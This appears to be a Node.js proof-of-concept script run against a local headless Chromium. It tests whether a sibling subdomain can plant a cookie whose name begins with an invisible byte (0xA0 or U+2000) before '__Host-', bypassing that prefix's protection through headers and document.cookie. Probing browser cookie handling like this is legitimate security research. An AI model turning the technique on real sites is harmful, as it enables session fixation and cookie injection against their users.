// Which raw Cookie header do browsers send for a cookie that a sibling subdomain set with byte 0xA0 before "__Host-"?
import http from "node:http";
import { createRequire } from "node:module";
const { chromium } = createRequire("/tmp/fresh/p/package.json")("playwright-core");
const seen = [];
const s = http.createServer((req, res) => {
  if (req.headers.host.startsWith("evil")) {
    const raw = process.argv[2] === "utf8" ? Buffer.from("\u2000__Host-presskey=EVIL2; Domain=example.test; Path=/", "utf8").toString("latin1") : "\xa0__Host-presskey=EVIL; Domain=example.test; Path=/";
    res.setHeader("Set-Cookie", raw);
    res.writeHead(200); return res.end(Buffer.from("evil"));
  }
  seen.push(JSON.stringify(req.headers.cookie)); res.end("app");
}).listen(0, "127.0.0.1", async () => {
  const port = s.address().port;
  const b = await chromium.launch({ executablePath: "/usr/bin/chromium", args: ["--no-sandbox", "--disable-gpu", "--host-resolver-rules=MAP *.example.test 127.0.0.1"] });
  const p = await b.newPage();
  await p.goto(`http://evil.example.test:${port}/`); 
  await p.goto(`http://app.example.test:${port}/`);
  // from a script of the sibling as well
  await p.goto(`http://evil.example.test:${port}/`);
  await p.evaluate(() => { document.cookie = "\u00a0__Host-presskey=FROMJS; Domain=example.test; Path=/"; document.cookie = "\u2000__Host-presskey=FROMJS2; Domain=example.test; Path=/"; });
  await p.goto(`http://app.example.test:${port}/`);
  console.log(seen.join("\n"));
  await b.close(); s.close();
});
